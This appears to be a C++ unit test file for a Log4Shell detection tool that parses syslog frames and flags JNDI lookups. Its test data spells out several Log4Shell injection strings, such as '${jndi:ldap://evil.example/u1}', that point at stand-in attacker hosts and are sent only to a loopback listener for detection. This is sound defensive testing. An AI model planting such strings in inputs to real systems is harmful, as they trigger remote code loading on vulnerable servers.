#include "follow/syslog.h"

#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/socket.h>
#include <unistd.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <thread>

#include "follow/emitter.h"
#include "follow/syslog_listener.h"
#include "follow/syslog_out.h"

namespace l4s::follow {
namespace {

namespace stdfs = std::filesystem;

TEST(ParseSyslog, Rfc5424WithStructuredData) {
  auto m = parse_syslog(
      "<165>1 2026-12-07T21:50:00.123Z web01 nginx 42 ID47 [exampleSDID@32473 iut=\"3\" eventSource=\"App\\]x\"] "
      "GET /${jndi:ldap://e/x}");
  ASSERT_TRUE(m);
  EXPECT_TRUE(m->rfc5424);
  EXPECT_EQ(m->facility, 20);
  EXPECT_EQ(m->severity, 5);
  EXPECT_EQ(m->timestamp, "2026-12-07T21:50:00.123Z");
  EXPECT_EQ(m->hostname, "web01");
  EXPECT_EQ(m->app_name, "nginx");
  EXPECT_EQ(m->msg, "GET /${jndi:ldap://e/x}");
}

TEST(ParseSyslog, Rfc5424NilFieldsAndNoMessage) {
  auto m = parse_syslog("<13>1 - - - - - -");
  ASSERT_TRUE(m);
  EXPECT_EQ(m->hostname, "");
  EXPECT_EQ(m->msg, "");
}

TEST(ParseSyslog, Rfc3164) {
  auto m = parse_syslog("<34>Dec  7 21:50:00 mymachine su[123]: 'su root' failed ${jndi:x}");
  ASSERT_TRUE(m);
  EXPECT_FALSE(m->rfc5424);
  EXPECT_EQ(m->timestamp, "Dec  7 21:50:00");
  EXPECT_EQ(m->hostname, "mymachine");
  EXPECT_EQ(m->app_name, "su");
  EXPECT_EQ(m->msg, "su[123]: 'su root' failed ${jndi:x}");
  // No timestamp: kept (relays do), with no host.
  auto bare = parse_syslog("<13>just text");
  ASSERT_TRUE(bare);
  EXPECT_EQ(bare->hostname, "");
  EXPECT_EQ(bare->msg, "just text");
}

TEST(ParseSyslog, MalformedFrames) {
  for (std::string_view bad : {"", "<", "<>x", "no pri", "<192>1 x", "<1a>x", "<013>x", "<13>1 2026 host",
                               "<13>1 - h a p m [unclosed", "<13>1 - h a p m [x a=\"b\"]junk", "<9999>x"})
    EXPECT_FALSE(parse_syslog(bad)) << bad;
}

std::vector<std::string> frame_all(TcpFramer& f, std::string_view data, size_t piece) {
  std::vector<std::string> out;
  for (size_t i = 0; i < data.size(); i += piece)
    f.feed(data.substr(i, piece), [&](std::string_view fr) { out.emplace_back(fr); });
  f.finish([&](std::string_view fr) { out.emplace_back(fr); });
  return out;
}

TEST(TcpFramer, OctetCountedAndNewlineFramesInAnyPieces) {
  std::string stream = "11 <13>1 - - -\n<13>line two\r\n garbage line\n18 <13>has\nnewline in\n<13>last";
  for (size_t piece : {1, 2, 3, 7, 1000}) {
    TcpFramer f;
    EXPECT_EQ(frame_all(f, stream, piece),
              (std::vector<std::string>{"<13>1 - - -", "<13>line two", "<13>has\nnewline in", "<13>last"}))
        << piece;
    EXPECT_EQ(f.malformed(), 1u) << piece;
  }
}

TEST(TcpFramer, OverLongFramesAreSkippedWhole) {
  TcpFramer f(16);
  std::string stream = "40 " + std::string(40, 'x') + "<13>after\n<13>" + std::string(30, 'y') + "\n5x bad\n<13>ok\n";
  EXPECT_EQ(frame_all(f, stream, 4), (std::vector<std::string>{"<13>after", "<13>ok"}));
  EXPECT_EQ(f.malformed(), 3u);
}

TEST(Endpoint, Parse) {
  auto e = parse_endpoint("tcp://[::1]:6514");
  ASSERT_TRUE(e.ok());
  EXPECT_TRUE(e->tcp);
  EXPECT_EQ(e->host, "::1");
  EXPECT_EQ(e->port, 6514);
  EXPECT_EQ(e->url(), "tcp://[::1]:6514");
  EXPECT_FALSE(parse_endpoint("http://x:1").ok());
  EXPECT_FALSE(parse_endpoint("udp://x").ok());
  EXPECT_FALSE(parse_endpoint("udp://x:99999").ok());
}

TEST(SyslogOut, Rfc5424WithStructuredData) {
  hunt::Detection d;
  d.file = "/var/log/a\"]";
  d.line = 7;
  d.raw = "GET /${jndi:ldap://evil/x}\nnext";
  d.verdict = hunt::Verdict::kReachesJndi214;
  d.severity = hunt::Severity::kHigh;
  std::string m = format_syslog_detection(d, Provenance{"web 01", "udp://192.0.2.1:514"}, "2026-12-07T21:50:00Z",
                                          "sensor", 99);
  auto parsed = parse_syslog(m);
  ASSERT_TRUE(parsed) << m;
  EXPECT_EQ(parsed->severity, 3);
  EXPECT_EQ(parsed->facility, 4);
  EXPECT_EQ(parsed->hostname, "sensor");
  EXPECT_EQ(parsed->app_name, "log4shield");
  EXPECT_NE(m.find("[log4shield@32473 verdict=\"reaches_jndi_2.14\" severity=\"high\" host=\"web 01\" "
                   "origin=\"udp://192.0.2.1:514\" file=\"/var/log/a\\\"\\]\" line=\"7\""),
            std::string::npos)
      << m;
  EXPECT_EQ(m.find('\n'), std::string::npos);
}

// A listener on loopback with its detections in a file.
class ListenerTest : public ::testing::Test {
 protected:
  void SetUp() override {
    out_ = stdfs::path(L4S_TEST_TMP) /
           ("syslog_" + std::string(::testing::UnitTest::GetInstance()->current_test_info()->name()) + ".jsonl");
    stdfs::create_directories(out_.parent_path());
    stdfs::remove(out_);
    fd_ = ::open(out_.c_str(), O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    emitter_ = std::make_unique<Emitter>(fd_, true);
  }
  void TearDown() override {
    if (listener_) listener_->stop();
    ::close(fd_);
  }
  void listen(const std::string& url) {
    auto e = parse_endpoint(url);
    ASSERT_TRUE(e.ok());
    listener_ = std::make_unique<SyslogListener>(e.value(), hunt::HuntOptions{}, *emitter_);
    ASSERT_TRUE(listener_->open().ok());
    listener_->start();
  }
  std::vector<nlohmann::json> detections() const {
    std::vector<nlohmann::json> out;
    std::ifstream in(out_);
    std::string line;
    while (std::getline(in, line)) out.push_back(nlohmann::json::parse(line));
    return out;
  }
  // Waits for a condition on a loaded machine (never a fixed sleep).
  static bool eventually(const std::function<bool()>& done) {
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(60);
    while (!done()) {
      if (std::chrono::steady_clock::now() > deadline) return false;
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    return true;
  }
  static std::string local_host() {
    char buf[256] = {};
    gethostname(buf, sizeof buf - 1);
    return buf;
  }
  void logger(const std::string& flags, const std::string& message) {
    if (std::system("command -v logger >/dev/null 2>&1") != 0) GTEST_SKIP() << "logger (util-linux) not installed";
    std::string cmd = "logger --server 127.0.0.1 --port " + std::to_string(listener_->port()) + " " + flags +
                      " -t webapp -- '" + message + "'";
    ASSERT_EQ(std::system(cmd.c_str()), 0) << cmd;
  }

  stdfs::path out_;
  int fd_ = -1;
  std::unique_ptr<Emitter> emitter_;
  std::unique_ptr<SyslogListener> listener_;
};

TEST_F(ListenerTest, UdpFromLoggerRfc5424AndRfc3164) {
  listen("udp://127.0.0.1:0");
  logger("--udp", "GET /?q=${jndi:ldap://evil.example/u1} HTTP/1.1");
  logger("--udp --rfc3164", "GET /?q=${jndi:ldap://evil.example/u2} HTTP/1.1");
  ASSERT_TRUE(eventually([&] { return detections().size() >= 2; }));
  auto d = detections();
  EXPECT_EQ(d[0]["jndi"]["name"], "ldap://evil.example/u1");
  EXPECT_EQ(d[1]["jndi"]["name"], "ldap://evil.example/u2");
  for (const auto& j : d) {
    EXPECT_EQ(j["host"], local_host());
    EXPECT_EQ(j["origin"].get<std::string>().rfind("udp://127.0.0.1:", 0), 0u) << j["origin"];
    EXPECT_EQ(j["file"], "udp://127.0.0.1:" + std::to_string(listener_->port()));
    EXPECT_FALSE(j["timestamp"].is_null());
  }
  EXPECT_EQ(listener_->stats().malformed, 0u);
}

TEST_F(ListenerTest, TcpFromLoggerNewlineAndOctetCountedWithGarbage) {
  listen("tcp://127.0.0.1:0");
  logger("--tcp", "a ${jndi:rmi://evil.example/t1}");
  logger("--tcp --octet-count", "b ${jndi:rmi://evil.example/t2}");
  logger("--tcp --rfc3164", "c ${jndi:rmi://evil.example/t3}");
  // Garbage and a frame with no PRI between good ones, on one connection.
  int s = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(listener_->port());
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  std::string relayed = "<14>1 - relay app - - - ${jndi:dns://e.x/t4}";
  std::string junk = std::string("\x01\x02garbage\n", 11) + "12x\n" +
                     "<999>bad pri ${jndi:ldap://evil.example/no}\n" + std::to_string(relayed.size()) + " " + relayed;
  ASSERT_EQ(::send(s, junk.data(), junk.size(), 0), static_cast<ssize_t>(junk.size()));
  ::close(s);
  ASSERT_TRUE(eventually([&] { return detections().size() >= 4; }));
  ASSERT_TRUE(eventually([&] { return listener_->stats().malformed >= 3; }));
  std::set<std::string> names;
  for (const auto& j : detections()) names.insert(j["jndi"]["name"].get<std::string>());
  EXPECT_EQ(names, (std::set<std::string>{"rmi://evil.example/t1", "rmi://evil.example/t2", "rmi://evil.example/t3",
                                          "dns://e.x/t4"}));
  for (const auto& j : detections()) {
    if (j["jndi"]["name"] == "dns://e.x/t4") EXPECT_EQ(j["host"], "relay");
    else EXPECT_EQ(j["host"], local_host());
    EXPECT_EQ(j["origin"].get<std::string>().rfind("tcp://127.0.0.1:", 0), 0u);
  }
  EXPECT_EQ(listener_->stats().malformed, 3u);
}

TEST_F(ListenerTest, SyslogOutReachesAListener) {
  listen("udp://127.0.0.1:0");
  SyslogSender out(*parse_endpoint("udp://127.0.0.1:" + std::to_string(listener_->port())), "sensor");
  ASSERT_TRUE(out.open().ok());
  hunt::Detection d;
  d.file = "/var/log/app.log";
  d.raw = "x ${jndi:ldap://evil.example/fw}";
  d.verdict = hunt::Verdict::kReachesJndi214;
  out.send(d, Provenance{"web01", ""});
  // The forwarded message holds the line: the listener finds it again.
  ASSERT_TRUE(eventually([&] { return detections().size() >= 1; }));
  EXPECT_EQ(detections()[0]["host"], "sensor");
  EXPECT_EQ(out.sent(), 1u);
}

}  // namespace
}  // namespace l4s::follow
